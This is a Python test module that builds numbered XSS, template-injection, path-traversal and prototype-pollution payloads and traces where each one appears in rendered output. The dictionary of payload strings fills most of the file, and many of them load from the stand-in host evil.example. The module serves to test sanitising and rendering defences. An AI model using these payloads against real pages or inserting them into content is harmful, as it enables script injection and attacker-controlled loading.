"""Texts that would run, load or change something if a page took them for more than text.

Each text has a number, so that it is found again: `zq12` is in it, `hit(12)` is the script that it would run, and
`evil.example/12` is what it would load. `§` stands for the number.
"""

# ruff: noqa: E501 - a payload on each line

import re
from collections.abc import Iterator

from msgspec import Struct

EVIL = "evil.example"
"""The host from which payloads would load something."""

_TEXTS = {
    "elements": "zq§ <script>hit(§)</script><img src=x.svg onload=hit(§) onerror=hit(§)><ScRiPt src=//evil.example/§></sCrIpT>",
    "attributes": "zq§ \"'><img src=x.svg onerror=\"hit(§)\"><b autofocus tabindex=1 onfocus='hit(§)'>",
    "bare attributes": "zq§ x onmouseover=hit(§) onfocus=hit(§) autofocus style=background:url(//evil.example/§) ",
    "backticks": "zq§ ``onerror=hit(§)`` <img/src='x.svg'onerror=hit(§)> <a href=`javascript:hit(§)`>x</a>",
    "svg": "zq§ <svg/onload=hit(§)><a href='javascript:hit(§)'><animate attributeName=href values=javascript:hit(§) />"
    "<text>x</text></a><use href='//evil.example/§.svg#x'/><foreignObject><body onload=hit(§)></svg>",
    "mathml": "zq§ <math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1.svg onerror=hit(§)&gt;'>"
    "<maction actiontype='statusline#https://evil.example/§' xlink:href='javascript:hit(§)' href='javascript:hit(§)'>x",
    "namespaces": "zq§ <svg><style><img src='</style><img src=x.svg onerror=hit(§)//'></svg><math><annotation-xml "
    "encoding='text/html'><iframe srcdoc='<script>parent.hit(§)</script>'></iframe></annotation-xml></math>",
    "frames": "zq§ <iframe srcdoc='<script>parent.hit(§)</script>'></iframe><object data='javascript:hit(§)'></object>"
    "<embed src='//evil.example/§'><video src='//evil.example/§' poster='//evil.example/§'></video>",
    "closing tags": "zq§ </title></style></textarea></script></template></noscript></select></code></pre></a></p></div>"
    "</main></footer></body></html><script>hit(§)</script><h1>x</h1>",
    "opening tags": "zq§ <h1><main><footer><title><textarea><select><template><noscript><plaintext><!--<script>hit(§)",
    "comments": "zq§ --><script>hit(§)</script><!-- --!><img src=x.svg onload=hit(§) onerror=hit(§)> ]]><![CDATA[<img src=x.svg onload=hit(§) onerror=hit(§)>"
    "]]> <?xml-stylesheet href='//evil.example/§'?> <!DOCTYPE x [<!ENTITY e SYSTEM '//evil.example/§'>]>&e;",
    "head": "zq§ <base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example/§'>"
    "<link rel=stylesheet href=//evil.example/§><link rel=preload as=image href=//evil.example/§>",
    "styles": "zq§ </style><style>@import '//evil.example/§'; * { background: url(//evil.example/§) !important; "
    "width: expression(hit(§)); -moz-binding: url(//evil.example/§) }</style><p style='display:none'>",
    "templates": "zq§ {{ 7919*§ }} {{ self.__init__.__globals__ }} {% for a in range(9) %}z{% endfor %} {# x #} "
    "${hit(§)} #{hit(§)} <%= hit(§) %> \\u003cscript\\u003ehit(§)\\u003c/script\\u003e",
    "entities": "zq§ &lt;script&gt;hit(§)&lt;/script&gt; &#x3C;img src=x.svg onload=hit(§) onerror=hit(§)&#62; &amp;lt;img src=x "
    "onerror=hit(§)&amp;gt; &#0; &#xD800; &#x110000; &nosuch; &quot;&apos; onerror=hit(§) &lt",
    "markdown": "zq§ [a](javascript:hit(§)) [b](<JaVaScRiPt&#58;hit(§)>) ![c](//evil.example/§.png) <javascript:hit(§)> "
    "[d](x \"' onerror=hit(§)\") **<img src=x.svg onload=hit(§) onerror=hit(§)>** ![e](x.svg){onerror=hit(§)} [f]{#find .x onclick=hit(§)}",
    "tex": "zq§ $\\href{javascript:hit(§)}{x} \\text{<img src=x.svg onload=hit(§) onerror=hit(§)>} \\style{background:url(//evil.example/§)}"
    "{y} \\cssId{find}{z}$ \\url{javascript:hit(§)} \\href{javascript:hit(§)}{u} \\textbf{<script>hit(§)</script>}",
    "names of elements": "zq§ <form id=find name=elements><input name=q id=found><img name=getElementById id=main>"
    "<a id=__proto__ name=constructor></a><output></output></form>",
    "directions": "zq§ \u202e\u2066<scr\u200bipt>hit(§)</script>\u2069\u202c \u200d\u2060\ufeff\u2028\u2029 \u061c<img "
    "src=x.svg onload=hit(§) onerror=hit(§)>\u00ad",
    "control characters": "zq§ \x01\x08\x0b\x0c\x1b[31m\x7f\x85\x9f <img\x0csrc=x.svg\x0conerror=hit(§)> <\x01script>hit(§)</script>",
    "long words": "zq§" + "W" * 700 + "<img src=x.svg onload=hit(§) onerror=hit(§)>" + "\u4e2d" * 300 + " " + "e\u0301" * 200 + " x-" * 300,
    "breaks in JSON": "zq§ \\\"},{\"__proto__\":{\"hit\":§}}</script><!--<script>'\\';hit(§)//\u2028",
    "formats": "zq§ \\end{verbatim}}, url = {javascript:hit(§)}} @misc{x} ER  -  TY  - JOUR UR  - javascript:hit(§)",
    # Texts for places that are checked.
    "URL of a script": "javascript:hit(§)//zq§",
    "URL in odd case": " \x01jAvA\tScRiPt\u200b:hit(§)//zq§",
    "URL with entities": "java&#x73;cript&colon;hit(§)//zq§",
    "URL of data": "data:text/html;x=zq§,<script>parent.hit(§)</script>",
    "URL of another scheme": "vbscript:hit(§)//zq§",
    "URL without a scheme": "//evil.example/zq§",
    "URL with quotes": "https://evil.example/zq§\"onmouseover=\"hit(§)\"><script>hit(§)</script>'",
    "URL that is valid": "https://evil.example/zq§?a=%22%3E%3Cscript%3Ehit(§)%3C/script%3E&b='onmouseover='hit(§)'#x",
    "path": "../../../../etc/zq§",
    "path with a script": "..\\..\\%2e%2e/%00zq§<script>hit(§)</script>.html",
    "DOI": "10.1000/zq§\"><img/src=x.svg/onerror=hit(§)>",
    "number": "1706.03762v9zq§<script>hit(§)</script>",
    "date": "2019-05-06 zq§<script>hit(§)</script>",
    "years": "2019-9999 zq§",
    "pages": "1-2zq§<script>hit(§)</script>",
    "language": "en-zq§<script>hit(§)</script>",
    "e-mail": "zq§@evil.example?body=<script>hit(§)</script>",
}  # fmt: skip
TEXTS = tuple(_TEXTS)
"""What the payloads are about."""
NAMES_OF_OBJECTS = ("__proto__", "constructor", "toString", "hasOwnProperty", "__defineGetter__", "length", "then")
"""Names that objects of scripts have, from the beginning."""
_MARKER = re.compile(r"zq(\d+)")


class Place(Struct, frozen=True):
    """Where a payload is."""

    source: str
    """The format or kind of file."""
    field: str
    kind: str
    """One of `TEXTS`."""


class Payloads:
    """Hands out payloads and remembers where each of them was placed."""

    def __init__(self) -> None:
        self.places: dict[int, Place] = {}

    def make(self, source: str, field: str, at: int) -> str:
        """Return the text number `at` of `TEXTS`, counted round and round, for a field."""
        number = len(self.places) + 1
        kind = TEXTS[at % len(TEXTS)]
        self.places[number] = Place(source, field, kind)
        return _TEXTS[kind].replace("§", str(number))

    def take_back(self) -> None:
        """Forget the last text, which no file has."""
        self.places.popitem()

    def found_in(self, text: str) -> Iterator[Place]:
        """The places of all payloads of which the number is in a text."""
        return (self.places[int(number)] for number in set(_MARKER.findall(text)) if int(number) in self.places)
